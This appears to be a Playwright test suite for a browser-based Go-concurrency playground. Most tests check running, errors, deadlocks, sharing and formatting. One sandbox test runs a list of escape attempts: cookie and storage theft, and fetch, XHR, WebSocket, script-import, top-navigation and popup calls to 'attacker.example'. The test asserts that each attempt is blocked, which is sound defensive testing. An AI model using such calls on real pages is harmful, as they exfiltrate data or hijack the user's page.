import { expect, type Locator, type Page, test } from "@playwright/test";

/**
 * The playground, as a learner uses it: run, edit, errors, runaway programs,
 * keeping and sharing code, and a sandbox that nothing escapes.
 */

const lesson = "goroutines/go-statement/";
const exampleFile = "go-statement.ts";

function example(page: Page): Locator {
  return page.locator("figure[data-example]").first();
}

function output(page: Page): Locator {
  return example(page).getByRole("region", { name: "Output" });
}

/** Replaces the editor's code, as pasting would. */
async function setCode(page: Page, code: string): Promise<void> {
  await example(page).locator(".monaco-editor .view-lines").click();
  await page.keyboard.press("ControlOrMeta+A");
  await page.keyboard.press("Delete");
  await page.keyboard.insertText(code);
}

async function run(page: Page): Promise<string> {
  await example(page).getByRole("button", { name: "Run", exact: true }).click();
  await expect(output(page)).toContainText(/Program exited|Program stopped|Build failed/, {
    timeout: 20_000,
  });
  return (await output(page).locator("[data-output]").innerText()).trim();
}

const program = (body: string) =>
  `import { chan, go, select, recv } from "go";\nimport * as fmt from "go/fmt";\nimport * as time from "go/time";\n\nexport async function main() {\n${body}\n}\n`;

test.use({ permissions: ["clipboard-read", "clipboard-write"] });

test.beforeEach(async ({ page }) => {
  await page.goto(lesson);
  await page.evaluate(() => localStorage.clear());
  await page.reload();
});

test("runs the lesson's example and shows its output", async ({ page }) => {
  const text = await run(page);
  expect(text).toBe("main sees value = 2\ngoroutine sees value = 1\n\nProgram exited.");
});

test("Ctrl+Enter in the editor runs the edited program", async ({ page }) => {
  await setCode(page, program('  fmt.println("edited", 6 * 7);'));
  await page.keyboard.press("ControlOrMeta+Enter");
  await expect(output(page)).toContainText("edited 42");
  await expect(output(page)).toContainText("Program exited.");
});

test("a type error is a build failure at its line, and nothing runs", async ({ page }) => {
  await setCode(page, program('  fmt.println("ran");\n  const n: number = "seven";'));
  const text = await run(page);
  expect(text).toMatch(
    new RegExp(`${exampleFile}:7:\\d+: Type 'string' is not assignable to type 'number'.`),
  );
  expect(text).toContain("Build failed");
  expect(text).not.toContain("ran");
});

test("a channel-direction misuse is a type error", async ({ page }) => {
  await setCode(
    page,
    'import { chan, type RecvChan } from "go";\n\nexport async function main() {\n  const c: RecvChan<number> = chan<number>(1);\n  await c.send(1);\n}\n',
  );
  const text = await run(page);
  expect(text).toMatch(
    new RegExp(`${exampleFile}:5:\\d+: Property 'send' does not exist on type 'RecvChan<number>'`),
  );
});

test("a syntax error is a build failure at its line", async ({ page }) => {
  await setCode(page, program("  const x = ;"));
  const text = await run(page);
  expect(text).toMatch(new RegExp(`${exampleFile}:6:\\d+: `));
  expect(text).toContain("Build failed");
});

test("an endless loop is stopped after 5 s, and the next run works", async ({ page }) => {
  test.setTimeout(60_000);
  await setCode(page, program("  for (;;) {}"));
  const text = await run(page);
  expect(text).toContain("program ran longer than 5 s and was stopped");
  await setCode(page, program('  fmt.println("alive");'));
  expect(await run(page)).toContain("alive");
});

test("an output flood is capped", async ({ page }) => {
  await setCode(page, program('  for (let i = 0; ; i++) fmt.println("line", i);'));
  const text = await run(page);
  expect(text).toMatch(/printed more than 10,000 lines and was stopped|output limit/);
  const lines = text.split("\n").length;
  expect(lines).toBeLessThan(12_000);
});

test("a deadlock shows Go's message and a dump whose line links move the cursor", async ({
  page,
}) => {
  await setCode(page, program("  const c = chan<number>();\n  await c.recv();"));
  const text = await run(page);
  expect(text).toContain("fatal error: all goroutines are asleep - deadlock!");
  expect(text).toContain("goroutine 1 [chan receive]:");
  expect(text).toMatch(new RegExp(`main\\.main\\(\\)\\n\\t${exampleFile}:7:\\d+`));
  expect(text).toContain("Program exited: status 2.");
  await output(page)
    .getByRole("link", { name: new RegExp(`${exampleFile}:7:\\d+`) })
    .click();
  await expect(example(page).locator(".monaco-editor .line-numbers.active-line-number")).toHaveText(
    "7",
  );
});

test("a panic shows Go's message and status 2", async ({ page }) => {
  await setCode(
    page,
    'import { panic } from "go";\n\nexport async function main() {\n  panic("boom");\n}\n',
  );
  const text = await run(page);
  expect(text).toContain("panic: boom");
  expect(text).toContain("goroutine 1 [running]:");
  expect(text).toMatch(new RegExp(`${exampleFile}:4:\\d+`));
  expect(text).toContain("Program exited: status 2.");
});

test("the seed is shown, and a given seed replays the same run", async ({ page }) => {
  await setCode(
    page,
    program(
      "  const out: string[] = [];\n  const done = chan<void>();\n  for (const w of ['a', 'b', 'c', 'd']) go(async () => { out.push(w); await done.send(); });\n  for (let i = 0; i < 4; i++) await done.recv();\n  fmt.println(out.join(''));",
    ),
  );
  const seed = example(page).getByRole("spinbutton", { name: "Seed" });
  await seed.fill("12345");
  const first = await run(page);
  const again = await run(page);
  expect(again).toBe(first);
  await example(page).getByRole("button", { name: "New seed" }).click();
  await expect(output(page)).toContainText("Program exited.");
  expect(await seed.inputValue()).not.toBe("12345");
});

test("edits survive a reload, and Reset restores the lesson's code after asking", async ({
  page,
}) => {
  await setCode(page, program('  fmt.println("kept");'));
  await page.waitForTimeout(600); // edits are saved after a short pause
  await page.reload();
  expect(await run(page)).toContain("kept");
  page.once("dialog", (dialog) => void dialog.accept());
  await example(page).getByRole("button", { name: "Reset" }).click();
  await expect(example(page).getByRole("status")).toContainText("Restored");
  expect(await run(page)).toContain("goroutine sees value = 1");
  await page.reload();
  expect(await run(page)).toContain("goroutine sees value = 1");
});

test("a share link opens the shared code; a broken one says so and shows the lesson's code", async ({
  page,
  context,
}) => {
  await setCode(page, program('  fmt.println("shared program");'));
  await example(page).getByRole("button", { name: "Share" }).click();
  await expect(example(page).getByRole("status")).toContainText(/Link copied|address bar/);
  const link = page.url();
  expect(link).toContain("#example=");

  const other = await context.newPage();
  await other.goto(link);
  expect(await run(other)).toContain("shared program");

  const broken = link.slice(0, link.length - 15);
  const third = await context.newPage();
  await third.goto(lesson);
  await third.evaluate(() => localStorage.clear()); // forget the edits made on the first page
  await third.goto(broken);
  await third.reload(); // the hash alone changed: load the page afresh, as a new visitor would
  await expect(example(third).getByRole("status")).toContainText("damaged or cut short");
  expect(await run(third)).toContain("goroutine sees value = 1");
});

test("a program cannot reach the page, its storage, the network or other windows", async ({
  page,
}) => {
  await page.evaluate(() => localStorage.setItem("canary", "untouched"));
  // Requests the browser refused by the sandbox's policy never leave it;
  // anything else aimed at the attacker (sent, answered, or failed in the
  // network) means the policy let it through.
  const escaped: string[] = [];
  page.on("requestfailed", (r) => {
    if (r.url().includes("attacker.example") && !/csp/i.test(r.failure()?.errorText ?? "")) {
      escaped.push(`${r.url()} ${r.failure()?.errorText}`);
    }
  });
  page.on("response", (r) => {
    if (r.url().includes("attacker.example")) escaped.push(r.url());
  });
  const popups: string[] = [];
  page.on("popup", (p) => popups.push(p.url()));
  const attempts = [
    ["localStorage", "g.localStorage.setItem('canary', 'stolen')"],
    ["cookie", "g.document.cookie = 'stolen=1'"],
    ["fetch", "await g.fetch('https://attacker.example/fetch')"],
    [
      "XMLHttpRequest",
      "const x = new g.XMLHttpRequest(); x.open('GET', 'https://attacker.example/xhr', false); x.send()",
    ],
    [
      "WebSocket",
      "const w = new g.WebSocket('wss://attacker.example/ws'); await new Promise((ok, no) => { w.onopen = ok; w.onerror = () => no(new Error('refused')); })",
    ],
    ["importScripts", "g.importScripts('https://attacker.example/x.js')"],
    ["dynamic import", "await import(['https://attacker.example', 'm.js'].join('/'))"],
    ["parent", "g.parent.document.body.innerHTML = 'owned'"],
    ["top navigation", "g.top.location.href = 'https://attacker.example/nav'"],
    ["window.open", "if (!g.open('https://attacker.example/popup')) throw new Error('blocked')"],
    ["postMessage to page", "g.postMessage({ type: 'done', id: 1, outcome: { exitCode: 0 } })"],
  ];
  const body = attempts
    .map(
      ([name, code]) =>
        `  try { ${code}; fmt.println("${name}: reached"); } catch (e) { fmt.println("${name}: blocked"); }`,
    )
    .join("\n");
  await setCode(
    page,
    `import * as fmt from "go/fmt";\n// eslint-disable-next-line\nconst g = globalThis as any;\n\nexport async function main() {\n${body}\n}\n`,
  );
  const text = await run(page);
  for (const [name] of attempts) {
    if (name === "postMessage to page") continue; // a worker may post; the page must ignore it (below)
    expect(text, name).toContain(`${name}: blocked`);
  }
  expect(text).toContain("Program exited.");
  expect(await page.evaluate(() => localStorage.getItem("canary"))).toBe("untouched");
  expect(await page.evaluate(() => document.cookie)).not.toContain("stolen");
  expect(await page.locator("body").innerText()).not.toBe("owned");
  expect(page.url()).toContain(lesson);
  expect(escaped).toEqual([]);
  expect(popups).toEqual([]);
});

test("Format tidies the code with TypeScript's formatter", async ({ page }) => {
  const id = await example(page).getAttribute("data-example");
  await page.evaluate(
    ([key, code]) => localStorage.setItem(key!, code!),
    [
      `concurrency-tour:code:${id}`,
      'import * as fmt from "go/fmt";\nexport async function main(){\nconst x=6*7\nfmt.println( x )\n}\n',
    ],
  );
  await page.reload();
  const lines = example(page).locator(".monaco-editor .view-lines");
  // Saved code brings the editor at once; on a busy machine it takes seconds to start.
  await expect(lines).toContainText("const x=6*7", { timeout: 30_000 });
  await example(page).getByRole("button", { name: "Format" }).click();
  // Format waits for the TypeScript service, seconds on a busy machine.
  await expect(lines).toContainText("const x = 6 * 7", { timeout: 30_000 });
  await expect(lines).toContainText("fmt.println(x)");
});

test("the editor knows the runtime: it completes the go modules' names", async ({ page }) => {
  await setCode(page, program("  time.sle"));
  // The cursor ends after the program: go back to the end of the unfinished line.
  await page.keyboard.press("ArrowUp");
  await page.keyboard.press("ArrowUp");
  await page.keyboard.press("End");
  await page.keyboard.press("Control+Space");
  const suggestions = page.locator(".monaco-editor .suggest-widget");
  await expect(suggestions).toContainText("sleep", { timeout: 15_000 });
});
